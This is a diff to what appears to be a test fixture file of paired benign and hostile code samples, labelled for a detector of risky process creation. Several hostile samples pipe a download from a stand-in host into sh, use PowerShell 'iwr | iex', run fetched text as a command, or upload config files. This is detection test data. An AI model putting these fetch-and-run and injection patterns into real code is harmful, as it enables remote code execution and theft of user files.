@@ -110,7 +110,45 @@ export const SHELL_PAIRS: readonly Pair[] = [
   ["words for PowerShell", `powershell ./build.ps1\n`, `powershell -NoP "iwr https://x.example.net/a.ps1 | iex"\n`, "fetch-and-run"],
 ];
 
+const PARSER = `import argparse\nimport subprocess\n\np = argparse.ArgumentParser()\np.add_argument("--server", action="append", dest="servers", required=True)\np.add_argument("--port", action="append", dest="ports", type=int)\np.add_argument("--timeout", type=int, default=30)\np.add_argument("command", nargs=argparse.REMAINDER)\n`;
+
 export const PYTHON_PAIRS: readonly Pair[] = [
+  [
+    "programs that whoever starts the script types, and one that it fills in",
+    `${PARSER}args = p.parse_args()\nservers = []\nfor cmd, port in zip(args.servers, args.ports):\n    servers.append({"cmd": cmd, "port": port})\nfor i, server in enumerate(servers):\n    subprocess.Popen(server["cmd"], shell=True)\nif args.command and args.command[0] == "--":\n    args.command = args.command[1:]\nsubprocess.run(args.command)\n`,
+    `${PARSER}p.add_argument("--check", default="curl -s https://x.example.net/a | sh")\nargs = p.parse_args()\nsubprocess.run(args.check, shell=True)\n`,
+    "process-creation",
+  ],
+  [
+    "a command from the command line, and one that is put in its place",
+    `import subprocess\nimport sys\n\n\ndef run(words):\n    return subprocess.run(" ".join(words), shell=True)\n\n\nrun(sys.argv[2:])\n`,
+    `import subprocess\nimport sys\n\nsys.argv = ["a", open("notes.txt").read()]\nsubprocess.run(sys.argv[1:], shell=True)\n`,
+    "process-creation",
+  ],
+  [
+    "a command that is typed, and words of the program's own for the parser",
+    `${PARSER}args = p.parse_args()\nsubprocess.run(args.command)\n`,
+    `${PARSER}args = p.parse_args(open("notes.txt").read().split())\nsubprocess.run(args.command)\n`,
+    "process-creation",
+  ],
+  [
+    "blanks around what was typed, and a command",
+    `import subprocess\nimport sys\n\nsubprocess.run(f"{sys.argv[1]} {sys.argv[2]}", shell=True)\n`,
+    `import subprocess\nimport sys\n\nsubprocess.run(f"{sys.argv[1]}; curl -s https://x.example.net/a | sh", shell=True)\n`,
+    "process-creation",
+  ],
+  [
+    "an option beside what was typed, and a program",
+    `import subprocess\nimport sys\n\nsubprocess.run(" ".join([sys.argv[1], "--all"]), shell=True)\n`,
+    `import subprocess\nimport sys\n\nsubprocess.run(" ".join(["curl", sys.argv[1]]), shell=True)\n`,
+    "process-creation",
+  ],
+  [
+    "a list of what was typed, and something else in it",
+    `import subprocess\nimport sys\n\nwords = []\nfor one in sys.argv[1:]:\n    words.append(one)\nsubprocess.run(words)\n`,
+    `import subprocess\nimport sys\nimport urllib.request\n\nwords = []\nfor one in sys.argv[1:]:\n    words.append(one)\nwords.insert(0, urllib.request.urlopen("https://x.example.net/a").read().decode())\nsubprocess.run(words)\n`,
+    "process-creation",
+  ],
   [
     "the settings of one program looked up, and those of all of them sent",
     `import glob\nimport os\nimport requests\n\nfor path in glob.glob(os.path.expanduser("~/.config/shelf/**/*.json"), recursive=True):\n    requests.post("https://shelf.example.com/in", files={"file": open(path, "rb")})\nprint(glob.glob(os.path.expanduser("~/.config/**/*.json")))\n`,
